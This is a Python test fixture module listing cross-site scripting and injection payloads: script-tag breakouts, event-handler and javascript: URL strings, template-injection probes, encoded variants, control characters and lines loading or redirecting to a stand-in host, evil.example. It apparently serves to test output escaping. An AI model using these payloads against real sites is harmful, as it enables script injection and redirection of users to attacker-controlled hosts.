"""Texts that become script or markup where somebody forgets to escape. Published by many tests."""

from __future__ import annotations

from typing import Final

_SCRIPT_ENDS: Final = [
    *("</script>", "</script><script>alert(1)</script>", "</SCRIPT ><svg/onload=alert(1)>"),
    *("</script\t>", "</script\n>", "</script/x>", "<!--", "<!--<script>", "-->", "--!>", "]]>"),
    *("<script>alert(1)</script>", "<script src=//evil.example></script>", "<script nonce=x>"),
    *("<!--<script></script>", "<![CDATA[</script>]]>", "</scr\0ipt>", "<\u200b/script>"),
]
_MARKUP: Final = [
    *("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<body onload=alert(1)>"),
    *("<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=javascript:alert(1)>"),
    *("<a href='javascript:alert(1)'>x</a>", "<base href=//evil.example>"),
    "<math><mi//xlink:href=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=javascript:alert(1)>",
    *("<embed src=javascript:alert(1)>", "<form action=//evil.example><input type=submit>"),
    *("<link rel=stylesheet href=//evil.example>", "<style>@import'//evil.example'</style>"),
    *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>"),
    "<noscript><p title='",
    *("<template><script>alert(1)</script></template>", "<textarea autofocus onfocus=alert(1)>"),
    *("<plaintext>", "<xmp>", "<title></title>", "<table><td>", "<?xml version='1.0'?>", "<%x%>"),
]
_QUOTES: Final = [
    *("'", '"', "`", "\\", "\\'", '\\"', "';alert(1)//", '";alert(1)//', "`;alert(1)//"),
    "'-alert(1)-'",
    *('"-alert(1)-"', "${alert(1)}", "{{constructor.constructor('alert(1)')()}}"),
    "\\u003c/script\\u003e",
    *(");alert(1);p(", "})});alert(1);//", '"})</script>', "*/alert(1)/*", "//\nalert(1)"),
    "\\\nalert(1)",
]
_ENTITIES: Final = [
    *("&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;", "&", "&quot;", "&apos;"),
    *("javascript&colon;alert(1)", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-"),
]
_LINES: Final = [
    *("\u2028alert(1)", "\u2029alert(1)", "a\u2028</script>", "\u0085alert(1)", "\nalert(1)\n"),
    *("\ralert(1)\r", "\0", "\x0b", "\x0c", "\ufeff", "\u202e", "\ufffe", "\U0001f600", "\xad"),
    *("data: x\n\nevent: sync", "id: 1\n\n", "__proto__", "constructor", "\x1b[31m"),
    "\r\n\r\nHTTP/1.1",
]
PAYLOADS: Final = [*_SCRIPT_ENDS, *_MARKUP, *_QUOTES, *_ENTITIES, *_LINES]
